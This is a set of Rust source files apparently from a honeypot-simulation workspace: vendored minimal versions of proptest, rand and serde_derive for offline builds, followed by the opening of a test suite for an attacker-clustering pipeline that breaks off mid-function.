        assert!(!set.is_empty(), "empty class in {pattern:?}");
        set
    }

    fn unescape(c: char, pattern: &str) -> char {
        match c {
            '.' | '\\' | '[' | ']' | '(' | ')' | '{' | '}' | '-' | '^' | '$' | '*' | '+' | '?'
            | '|' | '/' | '&' | '\'' | '"' | ' ' => c,
            'n' => '\n',
            't' => '\t',
            'r' => '\r',
            other => panic!("unsupported escape '\\{other}' in {pattern:?}"),
        }
    }
}

pub mod test_runner {
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    /// Error carried out of a failing test case (`prop_assert!` family).
    #[derive(Debug)]
    pub struct TestCaseError(pub String);

    impl TestCaseError {
        pub fn fail(msg: impl Into<String>) -> Self {
            TestCaseError(msg.into())
        }
    }

    /// Runner configuration. Only `cases` is honoured.
    #[derive(Clone, Debug)]
    pub struct ProptestConfig {
        pub cases: u32,
    }

    impl ProptestConfig {
        pub fn with_cases(cases: u32) -> Self {
            ProptestConfig { cases }
        }
    }

    impl Default for ProptestConfig {
        fn default() -> Self {
            ProptestConfig { cases: 256 }
        }
    }

    /// Drive one property: a fresh deterministically-seeded generator per
    /// case. No shrinking; the panic names the failing case index so it
    /// can be replayed (generation depends only on the index).
    pub fn run_cases<F>(config: &ProptestConfig, mut case: F)
    where
        F: FnMut(&mut SmallRng) -> Result<(), TestCaseError>,
    {
        for i in 0..config.cases {
            let mut rng = SmallRng::seed_from_u64(0x9e3779b97f4a7c15u64.wrapping_mul(i as u64 + 1));
            if let Err(e) = case(&mut rng) {
                panic!("proptest case {i}/{} failed: {}", config.cases, e.0);
            }
        }
    }
}

/// Umbrella module mirroring `proptest::prelude::prop`.
pub mod prop {
    pub use crate::bool;
    pub use crate::collection;
    pub use crate::option;
}

pub mod prelude {
    pub use crate::arbitrary::any;
    pub use crate::prop;
    pub use crate::strategy::{Just, Strategy};
    pub use crate::test_runner::ProptestConfig;
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, proptest};
}

/// The proptest entry macro: wraps each contained `#[test]` fn so its
/// arguments are drawn from strategies and the body runs once per case.
#[macro_export]
macro_rules! proptest {
    (#![proptest_config($cfg:expr)] $($rest:tt)*) => {
        $crate::__proptest_impl!(($cfg); $($rest)*);
    };
    ($($rest:tt)*) => {
        $crate::__proptest_impl!(($crate::test_runner::ProptestConfig::default()); $($rest)*);
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_impl {
    (($cfg:expr); $($(#[$meta:meta])* fn $name:ident($($params:tt)*) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __cfg = $cfg;
                $crate::test_runner::run_cases(&__cfg, |__rng| {
                    $crate::__proptest_bind!(__rng; $($params)*);
                    let __out: ::core::result::Result<(), $crate::test_runner::TestCaseError> =
                        (|| { $body ::core::result::Result::Ok(()) })();
                    __out
                });
            }
        )*
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_bind {
    ($rng:ident;) => {};
    ($rng:ident; $id:ident : $ty:ty) => {
        let $id = $crate::strategy::Strategy::generate(&$crate::arbitrary::any::<$ty>(), $rng);
    };
    ($rng:ident; $id:ident : $ty:ty, $($rest:tt)*) => {
        let $id = $crate::strategy::Strategy::generate(&$crate::arbitrary::any::<$ty>(), $rng);
        $crate::__proptest_bind!($rng; $($rest)*);
    };
    ($rng:ident; $pat:pat in $strat:expr) => {
        let $pat = $crate::strategy::Strategy::generate(&($strat), $rng);
    };
    ($rng:ident; $pat:pat in $strat:expr, $($rest:tt)*) => {
        let $pat = $crate::strategy::Strategy::generate(&($strat), $rng);
        $crate::__proptest_bind!($rng; $($rest)*);
    };
}

/// Assert inside a proptest body; failure aborts only this case with a
/// message rather than panicking the whole process immediately.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        if !($cond) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!("assertion failed: {}", stringify!($cond)),
            ));
        }
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !($cond) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(
                format!($($fmt)+),
            ));
        }
    };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        if !(left == right) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(format!(
                "assertion failed: {} == {}\n  left: {:?}\n right: {:?}",
                stringify!($left),
                stringify!($right),
                left,
                right
            )));
        }
    }};
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (left, right) = (&$left, &$right);
        if !(left != right) {
            return ::core::result::Result::Err($crate::test_runner::TestCaseError::fail(format!(
                "assertion failed: {} != {}\n  both: {:?}",
                stringify!($left),
                stringify!($right),
                left
            )));
        }
    }};
}

#[cfg(test)]
mod tests {
    use crate::prelude::*;
    use crate::strategy::Strategy;
    use rand::rngs::SmallRng;
    use rand::SeedableRng;

    fn gen_one<S: Strategy>(s: &S, seed: u64) -> S::Value {
        let mut rng = SmallRng::seed_from_u64(seed);
        s.generate(&mut rng)
    }

    #[test]
    fn regex_class_subtraction_excludes_quote() {
        for seed in 0..200 {
            let s = gen_one(&"[ -~&&[^']]{1,40}", seed);
            assert!(!s.is_empty() && s.len() <= 40);
            assert!(!s.contains('\''), "{s:?}");
            assert!(s.chars().all(|c| (' '..='~').contains(&c)));
        }
    }

    #[test]
    fn regex_groups_and_ranges() {
        for seed in 0..200 {
            let s = gen_one(&"(/[a-z]{1,5}){0,3}", seed);
            if !s.is_empty() {
                assert!(s.starts_with('/'), "{s:?}");
            }
            for seg in s.split('/').skip(1) {
                assert!((1..=5).contains(&seg.len()), "{s:?}");
                assert!(seg.chars().all(|c| c.is_ascii_lowercase()));
            }
            let v = gen_one(&"[0-9]\\.[0-9]{1,2}", seed);
            let (a, b) = v.split_once('.').unwrap();
            assert_eq!(a.len(), 1);
            assert!((1..=2).contains(&b.len()));
        }
    }

    #[test]
    fn vec_and_option_strategies_respect_bounds() {
        for seed in 0..100 {
            let v = gen_one(&prop::collection::vec(any::<u8>(), 2..7), seed);
            assert!((2..7).contains(&v.len()));
            let _o: Option<u32> = gen_one(&prop::option::of(0u32..9), seed);
        }
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(32))]

        /// The macro surface itself: `in` bindings, typed bindings via a
        /// second block, tuples, and assertion forms.
        #[test]
        fn macro_roundtrip(a in 0u32..50, (b, c) in (0u8..4, prop::bool::ANY)) {
            prop_assert!(a < 50);
            prop_assert!(b < 4, "b was {b}");
            prop_assert_eq!(c as u8 <= 1, true);
        }

        #[test]
        fn typed_param(v: u16) {
            prop_assert!(u32::from(v) <= 65_535);
        }
    }
}
