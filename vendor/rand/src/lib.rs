//! Offline vendored subset of the `rand` 0.8 API.
//!
//! The build environment has no crates.io access, so the workspace wires
//! this path crate in through `[workspace.dependencies]`. It implements the
//! exact API surface the honeyfarm crates use — [`rngs::SmallRng`], the
//! [`Rng`] / [`SeedableRng`] traits, and [`seq::SliceRandom::shuffle`] —
//! with the same *structure* as the real crate so a future build against
//! crates.io rand only changes the generated streams, not any code.
//!
//! The generator is xoshiro256++ seeded through SplitMix64 (the same
//! construction rand 0.8's `SmallRng` uses on 64-bit targets). Streams are
//! fully deterministic for a given seed, which is the property the
//! simulation relies on; no entropy source is ever consulted.

/// Core trait: a source of random 64-bit words.
pub trait RngCore {
    /// Next 64 random bits.
    fn next_u64(&mut self) -> u64;

    /// Next 32 random bits.
    fn next_u32(&mut self) -> u32 {
        (self.next_u64() >> 32) as u32
    }
}

/// Seedable construction.
pub trait SeedableRng: Sized {
    /// Build from a 64-bit seed (deterministic, platform-independent).
    fn seed_from_u64(seed: u64) -> Self;
}

/// SplitMix64 — used to expand a 64-bit seed into generator state.
fn splitmix64(state: &mut u64) -> u64 {
    *state = state.wrapping_add(0x9e37_79b9_7f4a_7c15);
    let mut z = *state;
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

pub mod rngs {
    use super::{splitmix64, RngCore, SeedableRng};

    /// A small, fast, deterministic generator (xoshiro256++).
    #[derive(Debug, Clone, PartialEq, Eq)]
    pub struct SmallRng {
        s: [u64; 4],
    }

    impl SeedableRng for SmallRng {
        fn seed_from_u64(seed: u64) -> Self {
            let mut sm = seed;
            let mut s = [0u64; 4];
            for w in s.iter_mut() {
                *w = splitmix64(&mut sm);
            }
            // All-zero state would be a fixed point; SplitMix64 cannot
            // produce it from any seed, but guard anyway.
            if s == [0, 0, 0, 0] {
                s[0] = 0x9e37_79b9_7f4a_7c15;
            }
            SmallRng { s }
        }
    }

    impl RngCore for SmallRng {
        #[inline]
        fn next_u64(&mut self) -> u64 {
            let s = &mut self.s;
            let result = s[0].wrapping_add(s[3]).rotate_left(23).wrapping_add(s[0]);
            let t = s[1] << 17;
            s[2] ^= s[0];
            s[3] ^= s[1];
            s[1] ^= s[2];
            s[0] ^= s[3];
            s[2] ^= t;
            s[3] = s[3].rotate_left(45);
            result
        }
    }
}

/// Types that can be sampled uniformly over their whole domain (`rng.gen()`).
pub trait Standard: Sized {
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self;
}

macro_rules! impl_standard_int {
    ($($t:ty),*) => {$(
        impl Standard for $t {
            #[inline]
            fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
                rng.next_u64() as $t
            }
        }
    )*};
}
impl_standard_int!(u8, u16, u32, u64, usize, i8, i16, i32, i64, isize);

impl Standard for bool {
    #[inline]
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        rng.next_u64() & 1 == 1
    }
}

impl Standard for f64 {
    /// Uniform in `[0, 1)` with 53 bits of precision.
    #[inline]
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }
}

impl Standard for f32 {
    #[inline]
    fn sample<R: RngCore + ?Sized>(rng: &mut R) -> Self {
        (rng.next_u64() >> 40) as f32 * (1.0 / (1u64 << 24) as f32)
    }
}

/// Types [`Rng::gen_range`] can sample uniformly between two bounds.
///
/// Mirrors real rand's structure (one *generic* range impl over a per-type
/// uniform-sampling trait) because type inference depends on it: the blanket
/// `Range<T>: SampleRange<T>` impl is what unifies an integer literal's type
/// with the comparison context, e.g. `rng.gen_range(0..1000) < some_u32`.
pub trait SampleUniform: Sized {
    /// Uniform over `[lo, hi)`, or `[lo, hi]` when `inclusive`.
    fn sample_between<R: RngCore + ?Sized>(
        lo: Self,
        hi: Self,
        inclusive: bool,
        rng: &mut R,
    ) -> Self;
}

macro_rules! impl_uniform_uint {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            #[inline]
            fn sample_between<R: RngCore + ?Sized>(
                lo: Self,
                hi: Self,
                inclusive: bool,
                rng: &mut R,
            ) -> Self {
                if inclusive {
                    assert!(lo <= hi, "gen_range: empty range");
                    let span = (hi as u64).wrapping_sub(lo as u64).wrapping_add(1);
                    if span == 0 {
                        // Full-domain u64 range.
                        return rng.next_u64() as $t;
                    }
                    lo + (rng.next_u64() % span) as $t
                } else {
                    assert!(lo < hi, "gen_range: empty range");
                    let span = (hi as u64) - (lo as u64);
                    lo + (rng.next_u64() % span) as $t
                }
            }
        }
    )*};
}
impl_uniform_uint!(u8, u16, u32, u64, usize);

macro_rules! impl_uniform_int {
    ($($t:ty),*) => {$(
        impl SampleUniform for $t {
            #[inline]
            fn sample_between<R: RngCore + ?Sized>(
                lo: Self,
                hi: Self,
                inclusive: bool,
                rng: &mut R,
            ) -> Self {
                if inclusive {
                    assert!(lo <= hi, "gen_range: empty range");
                    let span = (hi as i64).wrapping_sub(lo as i64) as u64 + 1;
                    (lo as i64).wrapping_add((rng.next_u64() % span) as i64) as $t
                } else {
                    assert!(lo < hi, "gen_range: empty range");
                    let span = (hi as i64).wrapping_sub(lo as i64) as u64;
                    (lo as i64).wrapping_add((rng.next_u64() % span) as i64) as $t
                }
            }
        }
    )*};
}
impl_uniform_int!(i8, i16, i32, i64, isize);

impl SampleUniform for f64 {
    #[inline]
    fn sample_between<R: RngCore + ?Sized>(
        lo: Self,
        hi: Self,
        _inclusive: bool,
        rng: &mut R,
    ) -> Self {
        assert!(lo < hi, "gen_range: empty range");
        lo + <f64 as Standard>::sample(rng) * (hi - lo)
    }
}

/// Range forms accepted by [`Rng::gen_range`].
pub trait SampleRange<T> {
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T;
}

impl<T: SampleUniform + PartialOrd> SampleRange<T> for core::ops::Range<T> {
    #[inline]
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        T::sample_between(self.start, self.end, false, rng)
    }
}

impl<T: SampleUniform + PartialOrd> SampleRange<T> for core::ops::RangeInclusive<T> {
    #[inline]
    fn sample<R: RngCore + ?Sized>(self, rng: &mut R) -> T {
        let (lo, hi) = self.into_inner();
        T::sample_between(lo, hi, true, rng)
    }
}

/// User-facing convenience methods, blanket-implemented for every `RngCore`.
pub trait Rng: RngCore {
    /// Sample a value uniformly over its whole domain.
    #[inline]
    fn gen<T: Standard>(&mut self) -> T {
        T::sample(self)
    }

    /// Sample uniformly from a range (`lo..hi` or `lo..=hi`).
    #[inline]
    fn gen_range<T, S: SampleRange<T>>(&mut self, range: S) -> T {
        range.sample(self)
    }

    /// Return `true` with probability `num / den`.
    #[inline]
    fn gen_ratio(&mut self, num: u32, den: u32) -> bool {
        assert!(den > 0 && num <= den, "gen_ratio: need num <= den, den > 0");
        self.gen_range(0..den) < num
    }

    /// Return `true` with probability `p`.
    #[inline]
    fn gen_bool(&mut self, p: f64) -> bool {
        assert!((0.0..=1.0).contains(&p), "gen_bool: p must be in [0, 1]");
        f64::sample(self) < p
    }
}

impl<R: RngCore + ?Sized> Rng for R {}

pub mod seq {
    use super::{Rng, RngCore};

    /// Slice helpers (`shuffle`).
    pub trait SliceRandom {
        type Item;

        /// Fisher–Yates shuffle, deterministic for a given generator state.
        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R);
    }

    impl<T> SliceRandom for [T] {
        type Item = T;

        fn shuffle<R: RngCore + ?Sized>(&mut self, rng: &mut R) {
            for i in (1..self.len()).rev() {
                let j = rng.gen_range(0..=i);
                self.swap(i, j);
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::rngs::SmallRng;
    use super::seq::SliceRandom;
    use super::{Rng, SeedableRng};

    #[test]
    fn deterministic_streams() {
        let mut a = SmallRng::seed_from_u64(7);
        let mut b = SmallRng::seed_from_u64(7);
        for _ in 0..100 {
            assert_eq!(a.gen::<u64>(), b.gen::<u64>());
        }
        let mut c = SmallRng::seed_from_u64(8);
        assert_ne!(a.gen::<u64>(), c.gen::<u64>());
    }

    #[test]
    fn ranges_stay_in_bounds() {
        let mut r = SmallRng::seed_from_u64(1);
        for _ in 0..1000 {
            let v = r.gen_range(10..20);
            assert!((10..20).contains(&v));
            let w = r.gen_range(2..=5u32);
            assert!((2..=5).contains(&w));
            let f = r.gen::<f64>();
            assert!((0.0..1.0).contains(&f));
            let s = r.gen_range(-10i64..10);
            assert!((-10..10).contains(&s));
        }
    }

    #[test]
    fn ratio_is_roughly_calibrated() {
        let mut r = SmallRng::seed_from_u64(42);
        let hits = (0..10_000).filter(|_| r.gen_ratio(3, 10)).count();
        assert!((2_600..3_400).contains(&hits), "hits {hits}");
    }

    #[test]
    fn shuffle_is_a_permutation() {
        let mut r = SmallRng::seed_from_u64(3);
        let mut v: Vec<u32> = (0..50).collect();
        v.shuffle(&mut r);
        let mut sorted = v.clone();
        sorted.sort_unstable();
        assert_eq!(sorted, (0..50).collect::<Vec<_>>());
        assert_ne!(v, sorted, "shuffle should move things");
    }
}
