//! Offline vendored `Serialize` / `Deserialize` derives.
//!
//! The real `serde_derive` depends on `syn`/`quote`, which are unavailable
//! in this offline build environment, so this implementation parses the
//! item's token stream by hand. It supports exactly the shapes the
//! workspace derives on:
//!
//! - structs with named fields (honoring
//!   `#[serde(skip_serializing_if = "path")]`),
//! - tuple structs (newtype structs serialize as their inner value),
//! - enums with unit, newtype, tuple, and struct variants
//!   (externally tagged, like real serde).
//!
//! Generic types are not supported — none of the workspace's serialized
//! types are generic.

use proc_macro::{Delimiter, TokenStream, TokenTree};

#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_serialize(&item)
        .parse()
        .expect("serde_derive: generated invalid Rust")
}

#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(input: TokenStream) -> TokenStream {
    let item = parse_item(input);
    gen_deserialize(&item)
        .parse()
        .expect("serde_derive: generated invalid Rust")
}

// ---------------------------------------------------------------- model --

struct Field {
    name: String,
    skip_if: Option<String>,
}

enum Fields {
    Named(Vec<Field>),
    Tuple(usize),
    Unit,
}

struct Variant {
    name: String,
    fields: Fields,
}

enum Item {
    Struct {
        name: String,
        fields: Fields,
    },
    Enum {
        name: String,
        variants: Vec<Variant>,
    },
}

// --------------------------------------------------------------- parsing --

/// Extract `skip_serializing_if = "..."` from a `#[serde(...)]` attribute
/// body, if present.
fn serde_attr_skip_if(attr_body: TokenStream) -> Option<String> {
    let tokens: Vec<TokenTree> = attr_body.into_iter().collect();
    let mut i = 0;
    while i < tokens.len() {
        if let TokenTree::Ident(id) = &tokens[i] {
            if id.to_string() == "skip_serializing_if" {
                // expect `= "literal"`
                if let (Some(TokenTree::Punct(eq)), Some(TokenTree::Literal(lit))) =
                    (tokens.get(i + 1), tokens.get(i + 2))
                {
                    if eq.as_char() == '=' {
                        let s = lit.to_string();
                        return Some(s.trim_matches('"').to_string());
                    }
                }
            }
        }
        i += 1;
    }
    None
}

/// Consume leading attributes from `tokens[*pos..]`, returning any
/// `skip_serializing_if` path found in `#[serde(...)]` attributes.
fn consume_attrs(tokens: &[TokenTree], pos: &mut usize) -> Option<String> {
    let mut skip_if = None;
    while let Some(TokenTree::Punct(p)) = tokens.get(*pos) {
        if p.as_char() != '#' {
            break;
        }
        if let Some(TokenTree::Group(g)) = tokens.get(*pos + 1) {
            // `#[serde(...)]` → bracket group containing `serde ( ... )`.
            let inner: Vec<TokenTree> = g.stream().into_iter().collect();
            if let (Some(TokenTree::Ident(id)), Some(TokenTree::Group(body))) =
                (inner.first(), inner.get(1))
            {
                if id.to_string() == "serde" {
                    if let Some(s) = serde_attr_skip_if(body.stream()) {
                        skip_if = Some(s);
                    }
                }
            }
            *pos += 2;
        } else {
            break;
        }
    }
    skip_if
}

/// Skip a visibility qualifier (`pub`, `pub(crate)`, …) if present.
fn consume_vis(tokens: &[TokenTree], pos: &mut usize) {
    if let Some(TokenTree::Ident(id)) = tokens.get(*pos) {
        if id.to_string() == "pub" {
            *pos += 1;
            if let Some(TokenTree::Group(g)) = tokens.get(*pos) {
                if g.delimiter() == Delimiter::Parenthesis {
                    *pos += 1;
                }
            }
        }
    }
}

/// Skip tokens until a top-level `,` (tracking `<`/`>` angle depth so commas
/// inside generic arguments are not treated as separators). Leaves `pos`
/// after the comma (or at end of input).
fn skip_past_comma(tokens: &[TokenTree], pos: &mut usize) {
    let mut angle: i32 = 0;
    while *pos < tokens.len() {
        if let TokenTree::Punct(p) = &tokens[*pos] {
            match p.as_char() {
                '<' => angle += 1,
                '>' => angle -= 1,
                ',' if angle == 0 => {
                    *pos += 1;
                    return;
                }
                _ => {}
            }
        }
        *pos += 1;
    }
}

/// Parse the fields of a brace-delimited struct body.
fn parse_named_fields(body: TokenStream) -> Vec<Field> {
    let tokens: Vec<TokenTree> = body.into_iter().collect();
    let mut fields = Vec::new();
    let mut pos = 0;
    while pos < tokens.len() {
        let skip_if = consume_attrs(&tokens, &mut pos);
        consume_vis(&tokens, &mut pos);
        let name = match tokens.get(pos) {
            Some(TokenTree::Ident(id)) => id.to_string(),
            None => break,
            other => panic!("serde_derive: expected field name, got {other:?}"),
        };
        pos += 1;
        // `: Type` — skip to the next top-level comma.
        skip_past_comma(&tokens, &mut pos);
        fields.push(Field { name, skip_if });
    }
    fields
}

/// Count the fields of a paren-delimited tuple body (top-level commas).
fn count_tuple_fields(body: TokenStream) -> usize {
    let tokens: Vec<TokenTree> = body.into_iter().collect();
    if tokens.is_empty() {
        return 0;
    }
    let mut n = 0;
    let mut pos = 0;
    while pos < tokens.len() {
        skip_past_comma(&tokens, &mut pos);
        n += 1;
    }
    n
}

/// Parse the variants of a brace-delimited enum body.
fn parse_variants(body: TokenStream) -> Vec<Variant> {
    let tokens: Vec<TokenTree> = body.into_iter().collect();
    let mut variants = Vec::new();
    let mut pos = 0;
    while pos < tokens.len() {
        consume_attrs(&tokens, &mut pos);
        let name = match tokens.get(pos) {
            Some(TokenTree::Ident(id)) => id.to_string(),
            None => break,
            other => panic!("serde_derive: expected variant name, got {other:?}"),
        };
        pos += 1;
        let fields = match tokens.get(pos) {
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => {
                let n = count_tuple_fields(g.stream());
                pos += 1;
                Fields::Tuple(n)
            }
            Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
                let named = parse_named_fields(g.stream());
                pos += 1;
                Fields::Named(named)
            }
            _ => Fields::Unit,
        };
        // Skip an optional discriminant and the separating comma.
        skip_past_comma(&tokens, &mut pos);
        variants.push(Variant { name, fields });
    }
    variants
}

fn parse_item(input: TokenStream) -> Item {
    let tokens: Vec<TokenTree> = input.into_iter().collect();
    let mut pos = 0;
    // Skip outer attributes and visibility until `struct` / `enum`.
    let kind = loop {
        match tokens.get(pos) {
            Some(TokenTree::Ident(id)) => {
                let s = id.to_string();
                pos += 1;
                if s == "struct" || s == "enum" {
                    break s;
                }
            }
            Some(_) => pos += 1,
            None => panic!("serde_derive: no struct/enum found"),
        }
    };
    let name = match tokens.get(pos) {
        Some(TokenTree::Ident(id)) => id.to_string(),
        other => panic!("serde_derive: expected type name, got {other:?}"),
    };
    pos += 1;
    if let Some(TokenTree::Punct(p)) = tokens.get(pos) {
        if p.as_char() == '<' {
            panic!("serde_derive (vendored): generic types are not supported");
        }
    }
    match tokens.get(pos) {
        Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Brace => {
            if kind == "struct" {
                Item::Struct {
                    name,
                    fields: Fields::Named(parse_named_fields(g.stream())),
                }
            } else {
                Item::Enum {
                    name,
                    variants: parse_variants(g.stream()),
                }
            }
        }
        Some(TokenTree::Group(g)) if g.delimiter() == Delimiter::Parenthesis => Item::Struct {
            name,
            fields: Fields::Tuple(count_tuple_fields(g.stream())),
        },
        _ if kind == "struct" => Item::Struct {
            name,
            fields: Fields::Unit,
        },
        other => panic!("serde_derive: unexpected item body {other:?}"),
    }
}

// --------------------------------------------------------------- codegen --

fn gen_serialize(item: &Item) -> String {
    match item {
        Item::Struct { name, fields } => {
            let body = match fields {
                Fields::Named(fs) => {
                    let mut s =
                        String::from("let mut m: Vec<(String, serde::Value)> = Vec::new();\n");
                    for f in fs {
                        let push = format!(
                            "m.push((\"{n}\".to_string(), serde::Serialize::to_value(&self.{n})));\n",
                            n = f.name
                        );
                        match &f.skip_if {
                            Some(path) => {
                                s += &format!("if !{path}(&self.{n}) {{ {push} }}\n", n = f.name)
                            }
                            None => s += &push,
                        }
                    }
                    s += "serde::Value::Map(m)";
                    s
                }
                Fields::Tuple(1) => "serde::Serialize::to_value(&self.0)".to_string(),
                Fields::Tuple(n) => {
                    let items: Vec<String> = (0..*n)
                        .map(|i| format!("serde::Serialize::to_value(&self.{i})"))
                        .collect();
                    format!("serde::Value::Seq(vec![{}])", items.join(", "))
                }
                Fields::Unit => "serde::Value::Null".to_string(),
            };
            format!(
                "impl serde::Serialize for {name} {{\n fn to_value(&self) -> serde::Value {{\n {body}\n }}\n}}\n"
            )
        }
        Item::Enum { name, variants } => {
            let mut arms = String::new();
            for v in variants {
                let vn = &v.name;
                match &v.fields {
                    Fields::Unit => {
                        arms +=
                            &format!("{name}::{vn} => serde::Value::Str(\"{vn}\".to_string()),\n");
                    }
                    Fields::Tuple(1) => {
                        arms += &format!(
                            "{name}::{vn}(f0) => serde::Value::Map(vec![(\"{vn}\".to_string(), serde::Serialize::to_value(f0))]),\n"
                        );
                    }
                    Fields::Tuple(n) => {
                        let binds: Vec<String> = (0..*n).map(|i| format!("f{i}")).collect();
                        let items: Vec<String> = binds
                            .iter()
                            .map(|b| format!("serde::Serialize::to_value({b})"))
                            .collect();
                        arms += &format!(
                            "{name}::{vn}({b}) => serde::Value::Map(vec![(\"{vn}\".to_string(), serde::Value::Seq(vec![{i}]))]),\n",
                            b = binds.join(", "),
                            i = items.join(", ")
                        );
                    }
                    Fields::Named(fs) => {
                        let binds: Vec<String> = fs.iter().map(|f| f.name.clone()).collect();
                        let items: Vec<String> = fs
                            .iter()
                            .map(|f| {
                                format!(
                                    "(\"{n}\".to_string(), serde::Serialize::to_value({n}))",
                                    n = f.name
                                )
                            })
                            .collect();
                        arms += &format!(
                            "{name}::{vn} {{ {b} }} => serde::Value::Map(vec![(\"{vn}\".to_string(), serde::Value::Map(vec![{i}]))]),\n",
                            b = binds.join(", "),
                            i = items.join(", ")
                        );
                    }
                }
            }
            format!(
                "impl serde::Serialize for {name} {{\n fn to_value(&self) -> serde::Value {{\n match self {{\n {arms} }}\n }}\n}}\n"
            )
        }
    }
}

fn gen_named_ctor(path: &str, fs: &[Field], src: &str) -> String {
    let mut s = format!("Ok({path} {{\n");
    for f in fs {
        s += &format!(
            "{n}: serde::Deserialize::from_value({src}.field(\"{n}\"))?,\n",
            n = f.name
        );
    }
    s += "})";
    s
}

fn gen_deserialize(item: &Item) -> String {
    match item {
        Item::Struct { name, fields } => {
            let body = match fields {
                Fields::Named(fs) => gen_named_ctor(name, fs, "v"),
                Fields::Tuple(1) => {
                    format!("Ok({name}(serde::Deserialize::from_value(v)?))")
                }
                Fields::Tuple(n) => {
                    let mut s = format!(
                        "let seq = v.as_seq_len({n}).ok_or_else(|| serde::Error::custom(\"{name}: expected {n}-element sequence\"))?;\n"
                    );
                    let items: Vec<String> = (0..*n)
                        .map(|i| format!("serde::Deserialize::from_value(&seq[{i}])?"))
                        .collect();
                    s += &format!("Ok({name}({}))", items.join(", "));
                    s
                }
                Fields::Unit => format!("Ok({name})"),
            };
            format!(
                "impl serde::Deserialize for {name} {{\n fn from_value(v: &serde::Value) -> Result<Self, serde::Error> {{\n {body}\n }}\n}}\n"
            )
        }
        Item::Enum { name, variants } => {
            let mut unit_arms = String::new();
            let mut data_arms = String::new();
            for v in variants {
                let vn = &v.name;
                match &v.fields {
                    Fields::Unit => {
                        unit_arms += &format!("\"{vn}\" => Ok({name}::{vn}),\n");
                    }
                    Fields::Tuple(1) => {
                        data_arms += &format!(
                            "\"{vn}\" => Ok({name}::{vn}(serde::Deserialize::from_value(inner)?)),\n"
                        );
                    }
                    Fields::Tuple(n) => {
                        let items: Vec<String> = (0..*n)
                            .map(|i| format!("serde::Deserialize::from_value(&seq[{i}])?"))
                            .collect();
                        data_arms += &format!(
                            "\"{vn}\" => {{\n let seq = inner.as_seq_len({n}).ok_or_else(|| serde::Error::custom(\"{name}::{vn}: expected {n}-element sequence\"))?;\n Ok({name}::{vn}({items}))\n }}\n",
                            items = items.join(", ")
                        );
                    }
                    Fields::Named(fs) => {
                        let ctor = gen_named_ctor(&format!("{name}::{vn}"), fs, "inner");
                        data_arms += &format!("\"{vn}\" => {{ {ctor} }}\n");
                    }
                }
            }
            format!(
                "impl serde::Deserialize for {name} {{\n fn from_value(v: &serde::Value) -> Result<Self, serde::Error> {{\n match v {{\n serde::Value::Str(s) => match s.as_str() {{\n {unit_arms} other => Err(serde::Error::custom(format!(\"{name}: unknown variant {{other}}\"))),\n }},\n serde::Value::Map(entries) if entries.len() == 1 => {{\n let (tag, inner) = &entries[0];\n let _ = inner;\n match tag.as_str() {{\n {data_arms} other => Err(serde::Error::custom(format!(\"{name}: unknown variant {{other}}\"))),\n }}\n }},\n _ => Err(serde::Error::custom(\"{name}: expected string or single-key map\")),\n }}\n }}\n}}\n"
            )
        }
    }
}
