//! Differential invariance suite for the attacker-clustering pipeline
//! (ISSUE 10 tentpole), proven with the testkit's `diff_features` /
//! `diff_clusters` oracles. Four equivalences, all **bit-for-bit**:
//!
//! * `extract_threaded` across thread counts {1, 2, 8} — the integer
//!   accumulators merge exactly, so sharding cannot move a single bit of
//!   the normalized matrix or the clustering built on it.
//! * Streaming feature extraction from a snapshot
//!   (`features_from_snapshot_stream`, chunk-at-a-time, rows never
//!   materialized) against extraction over the materialized dataset.
//! * Snapshot write→load round-trip: clustering the reloaded dataset
//!   equals clustering the original.
//! * A proptest that *any* day-aligned partition of the row range, folded
//!   segment-by-segment and merged in order, finishes to the same matrix
//!   as the one-shot pass — the associativity the whole design rests on.
//!
//! Plus the pinned edge cases: empty store, single client, all-identical
//! clients (k collapse), and degenerate columns through the NaN guard.

use std::sync::OnceLock;

use honeyfarm::cluster::{
    assignments_tsv, cluster, extract, extract_threaded, features_from_snapshot_stream,
    summary_text, summary_tsv, unit01, ClusterRun, FeatureFold, FeatureMatrix, HeadMap,
    KMeansConfig, N_FEATURES,
};
use honeyfarm::farm::SessionStore;
use honeyfarm::honeypot::ArtifactStore;
use honeyfarm::prelude::*;
use honeyfarm::testkit::{diff_clusters, diff_features, Scenario};
use proptest::prelude::*;

const SECS_PER_DAY: u32 = 86_400;

fn fixture_config() -> SimConfig {
    SimConfig::test(16)
}

fn fixture() -> &'static SimOutput {
    static OUT: OnceLock<SimOutput> = OnceLock::new();
    OUT.get_or_init(|| Simulation::run(fixture_config()))
